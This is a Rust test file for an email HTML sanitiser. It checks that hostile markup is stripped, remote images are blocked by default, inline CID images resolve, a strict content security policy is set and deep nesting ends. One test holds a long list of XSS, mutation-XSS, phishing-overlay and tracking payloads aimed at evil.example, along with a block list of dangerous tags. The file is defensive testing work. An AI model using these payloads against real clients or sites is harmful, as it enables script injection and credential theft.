//! Hostile letters.

use std::collections::HashMap;

use super::{InlineImages, page};

fn shown(html: &str) -> String {
    let document = page(html, &InlineImages::new(), false).document;
    let (_, body) = document.split_once("<body>").unwrap();
    body.strip_suffix("</body></html>").unwrap().to_owned()
}

/// Without the values of `title` attributes, which are shown as text.
fn without_titles(html: &str) -> String {
    let mut parts = html.split(" title=\"");
    let mut rest = parts.next().unwrap_or_default().to_owned();
    for part in parts {
        rest.push_str(part.split_once('"').map_or("", |(_, after)| after));
    }
    rest
}

fn sorted(text: &str) -> Vec<char> {
    let mut letters: Vec<char> = text.chars().collect();
    letters.sort_unstable();
    letters
}

#[test]
fn an_ordinary_letter_keeps_its_looks() {
    let letter = "<table width=\"600\"><tr><td style=\"color:red;padding:4px\"><b>Hi</b> \
        <a href=\"https://shop.example/x?a=1&amp;b=2\">offer</a></td></tr></table>";
    let shown = shown(letter);
    assert!(shown.contains("style=\"color:red;padding:4px\""), "{shown}");
    assert!(
        shown.contains("href=\"https://shop.example/x?a=1&amp;b=2\""),
        "{shown}"
    );
    assert!(
        shown.contains("rel=\"noopener noreferrer nofollow\""),
        "{shown}"
    );
    assert!(shown.contains("target=\"_blank\""), "{shown}");
}

#[test]
fn nothing_can_run_load_ask_or_lead_astray() {
    let hostile = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<img srcset=\"https://evil.example/a.png 1x\">",
        "<picture><source srcset=https://evil.example/a.png></picture>",
        "<svg/onload=alert(1)>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<p title=\"</title><img src=x onerror=alert(1)>\"><title><p>",
        "<template><img src=x onerror=alert(1)></template>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=https://evil.example/x.swf></object><embed src=https://evil.example>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=https://evil.example/>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import url(https://evil.example/x.css);</style>",
        "<div style=\"background:url(https://evil.example/x.gif)\">x</div>",
        "<div style=\"background:&#117;rl(https://evil.example/x.gif)\">x</div>",
        "<table background=https://evil.example/x.gif><td background=https://evil.example>x",
        "<body background=https://evil.example onload=alert(1)>",
        "<form action=https://evil.example><input name=password><button formaction=//evil.example>",
        "<video poster=https://evil.example/x.png><source src=https://evil.example></video>",
        "<input type=image src=https://evil.example/x.png>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">Runnel: enter your password</div>",
        "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
        "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "</body></html><script>alert(1)</script>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext><script>alert(1)</script>",
        "<textarea><script>alert(1)</script></textarea>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<img src=x:alert(1) onerror=eval(src)>",
        "\0<scr\0ipt>alert(1)</scr\0ipt>",
    ];
    for html in hostile {
        let shown = shown(html);
        // What is left between angle brackets; escaped text and titles may say anything.
        let tags: String = without_titles(&shown)
            .split('<')
            .skip(1)
            .filter_map(|rest| rest.split('>').next())
            .collect::<Vec<_>>()
            .join("\n")
            .to_lowercase();
        for bad in [
            "script",
            "onerror",
            "onload",
            "onstart",
            "evil",
            "iframe",
            "object",
            "embed",
            "meta",
            "base ",
            "link",
            "style>",
            "svg",
            "math",
            "form",
            "input",
            "javascript",
            "vbscript",
            "file:",
            "data:text",
            "svg+xml",
            "position",
            "url(",
            "src=\"x",
        ] {
            assert!(!tags.contains(bad), "{bad:?} is left of {html:?}: {shown}");
        }
        // A letter that changes when it is read again hides something; the order of attributes may differ.
        let again = super::sanitised(&shown, &InlineImages::new(), false).0;
        assert_eq!(
            sorted(&again),
            sorted(&shown),
            "mutates: {html}: {shown} -> {again}"
        );
    }
}

#[test]
fn pictures_elsewhere_are_counted_and_shown_only_when_asked_for() {
    let html = "<img src=\"https://shop.example/a.png\" alt=A><img src='http://spy.example/p.gif' width=1>\
        <img src=//cdn.example/c.png><img src=relative.png>";
    let quiet = page(html, &InlineImages::new(), false);
    assert_eq!(quiet.blocked_images, 3);
    assert!(
        !quiet.document.contains(".example"),
        "nobody learns that the mail was opened"
    );
    assert!(
        quiet.document.contains("img-src data:;"),
        "the page itself forbids them too"
    );
    let asked = page(html, &InlineImages::new(), true);
    assert_eq!(asked.blocked_images, 0);
    assert!(asked.document.contains("https://shop.example/a.png"));
    assert!(asked.document.contains("https://cdn.example/c.png"));
    assert!(asked.document.contains("img-src data: http: https:;"));
}

#[test]
fn pictures_inside_the_mail_come_from_where_the_host_says() {
    let inline: HashMap<String, String> = [(
        "logo@shop".to_owned(),
        "data:image/png;base64,AAAA".to_owned(),
    )]
    .into();
    let html = "<img src=\"cid:logo@shop\"><img src=\"CID:logo%40shop\"><img src=cid:other>\
        <img src=\"data:image/png;base64,BBBB\"><a href=\"cid:logo@shop\">x</a>";
    let page = page(html, &inline, false);
    assert_eq!(
        page.document.matches("data:image/png;base64,AAAA").count(),
        2
    );
    assert!(page.document.contains("data:image/png;base64,BBBB"));
    assert!(!page.document.contains("cid:"), "{}", page.document);
    assert_eq!(page.blocked_images, 0);
}

#[test]
fn the_page_forbids_whatever_might_slip_through() {
    let document = page("hi", &InlineImages::new(), false).document;
    for wall in [
        "default-src 'none'",
        "script-src 'none'",
        "form-action 'none'",
        "base-uri 'none'",
    ] {
        assert!(document.contains(wall), "{wall}");
    }
}

#[test]
fn endless_nesting_ends() {
    for bomb in [
        "<div>",
        "<table><td>",
        "<b><i><a href=x>",
        "<div title='</div>'>",
    ] {
        let html = format!("{}the text", bomb.repeat(20_000));
        assert!(
            shown(&html).contains("the text"),
            "{bomb}: at least its text is shown"
        );
    }
    let deep = format!("{}x{}", "<div>".repeat(500), "</div>".repeat(500));
    assert!(shown(&deep).contains("<div>x</div>"));
}
